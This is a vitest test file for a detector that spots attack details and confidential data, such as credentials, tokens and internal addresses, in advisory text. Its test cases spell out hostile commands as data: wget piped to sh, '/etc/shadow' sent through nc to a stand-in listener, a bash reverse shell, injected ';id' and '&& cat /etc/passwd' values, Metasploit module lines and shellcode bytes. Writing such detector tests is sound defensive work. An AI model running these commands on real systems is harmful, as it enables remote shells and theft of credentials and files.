import { describe, expect, test } from 'vitest';
import { attackDetails } from '../../src/domain/attack-detail.ts';
import { confidentialDetails, credentialsIn } from '../../src/domain/confidential-detail.ts';
import { growthExponent } from '../support/growth.ts';

describe('what is found', () => {
  test.each([
    ['a shell pipeline', 'wget http://files.example/a | sh'],
    ['a shell pipeline', 'echo aWQ= | base64 -d | bash'],
    ['a shell pipeline', 'cat /etc/shadow | nc listener.example 4444'],
    ['a shell pipeline', 'bash -i >& /dev/tcp/listener.example/4444 0>&1'],
    ['a shell pipeline', 'name=x;id'],
    ['a shell pipeline', 'ping router && cat /etc/passwd'],
    ['a module of an attack framework', 'use exploit/linux/http/router_exec'],
    ['a module of an attack framework', 'set RHOSTS router'],
    ['a module of an attack framework', 'msfvenom makes it'],
    ['long encoded data', `data: ${'aB3+'.repeat(30)}==`],
    ['long encoded data', '90cc'.repeat(50)],
    ['long encoded data', '0x90, 0x90, 0x31, 0xc0, 0x50, 0x68, 0x2f, 0x2f, 0x73'],
    ['a private key', `-----BEGIN RSA PRIVATE KEY-----`],
    ['an access key or token', `AKIA${'ABCD1234'.repeat(2)}`],
    ['an access key or token', `ghp_${'a1B2'.repeat(9)}`],
    ['an Authorization header', 'Authorization: Basic dXNlcjpzZWNyZXQ='],
    ['an Authorization header', 'cookie: session=0f3a99bb'],
    ['a password', 'user: admin password: s3cret, port 80'],
    ['a password', 'Password: hunter'],
    ['a password', 'パスワード：tanaka77'],
    ['a password', 'api_key=0123456789abcdef'],
    ['a name and password in an address', 'https://admin:letmein@router.example/'],
    ['an internal address', 'our server 192.168.17.23 keeps it'],
    ['an internal address', 'http://10.20.30.40/'],
    ['an internal address', 'ssh root@10.0.0.5'],
    ['an internal address', '10.1.3.5:8080'],
    ['an internal address', '172.20.4.4'],
    ['an internal address', 'see http://wiki.cert.internal/61247051'],
    ['an internal address', 'tanaka@mail.lab.local'],
  ])('%s in %j', (what, text) => {
    expect(confidentialDetails(text).map((found) => found.what)).toContain(what);
  });
});

/** What advisories and CVE records say, in our own words, with what comes closest to the signs. */
const FACTS = [
  'Example Router firmware 1.2.3 and earlier allows a remote attacker to execute arbitrary OS commands as root by a crafted request to the ping page.',
  'An unauthenticated attacker on the same LAN may send a crafted packet to 192.168.0.1, the address that the device ships with.',
  'Open http://192.168.1.1/ in a browser, log in, and choose "Update firmware".',
  'Oracle Application Server 10.1.3.5, Flash Player 10.3.183.5 and Windows 10.0.19041.264 are affected.',
  'The product uses a hard-coded password (CWE-259).',
  'Hard-coded password: CWE-259',
  'Password: change it to one of your own before you connect the device.',
  'The password is stored in clear text; the API key is shown on the page.',
  'パスワード: 初期値を変更してください。',
  'Improper neutralization of `<` and `|` in the file name.',
  '| Product | Version | Language |\n| --- | --- | --- |\n| Example | 1.2 | perl module |\n| Other | 2 | python 3 |',
  'The Authorization header is not checked.',
  'The cookie lacks the Secure attribute.',
  'An exploit module for this flaw is public.',
  'Read more at https://blog.example.org/post/2014/05/router and https://vendor.example/advisories.',
  'SHA-256: 9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08',
  `SHA-512: ${'0123456789abcdef'.repeat(8)}`,
  'CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H; CVSS:4.0/AV:N/AC:L/AT:N/PR:N/UI:N/VC:H/VI:H/VA:H/SC:N/SI:N/SA:N/E:P',
  'The file /etc/rc.local is written by the installer.',
  'Servers that are reachable from the internal network only are affected as well; a local attacker needs an account.',
  'Commands joined by "&&" or ";" are passed on to a shell.',
  'Use of the format string %n; a stack-based buffer overflow in sh, bash and other shells.',
  '改ざんされたリクエストを送信されることで、任意の OS コマンドを実行される可能性があります。',
  'Contact psirt@acme.example; https://user.example/@acme is their account.',
];

test.each(FACTS)('nothing is found in %j', (text) => {
  expect(confidentialDetails(text)).toEqual([]);
});

test('a password is a credential, and no way to attack', () => {
  expect(credentialsIn('password: s3cret')).toHaveLength(1);
  expect(attackDetails('password: s3cret')).toEqual([]);
});

test('a long text costs little', () => {
  for (const piece of ['aB3', 'ab ', 'a.', '10.', 'eyJa', 'password:', '| ', '0x90,', 'a:', 'gh']) {
    expect(growthExponent((size) => confidentialDetails(piece.repeat(size)), 10_000), piece).toBeLessThan(1.6);
  }
});
